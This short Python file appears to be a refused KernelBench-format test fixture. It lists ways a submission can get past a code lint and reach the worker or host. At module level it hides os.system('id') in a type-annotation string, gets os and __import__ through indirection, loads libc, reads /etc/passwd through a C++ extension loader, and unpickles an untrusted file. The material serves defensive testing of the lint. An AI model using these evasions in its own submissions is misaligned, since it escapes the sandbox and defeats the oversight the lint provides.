# KernelBench format, refused (issue 33): the security review's routes in plain Python that
# passed kreach lint before it was an allow-list: each reaches the worker or the host with no
# banned name, through a string, a class pattern, an annotation or a loader.
import operator
import typing
import numpy
import torch
import torch.nn as nn
from torch.utils import cpp_extension

_os = operator.methodcaller("__getattribute__", "os")(torch)
_imp = __builtins__["__import__"]
match torch:
    case object(sys=_sys):
        pass


def _hint(x: "__import__('os').system('id')"):
    return x


typing.get_type_hints(_hint)
_libc = numpy.ctypeslib.load_library("libc.so.6", "/lib/x86_64-linux-gnu")
_ext = cpp_extension.load(name="kreach_passwd", sources=["/etc/passwd"])
_w = torch.load("/tmp/kreach_w.pt", weights_only=False)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.relu(x)
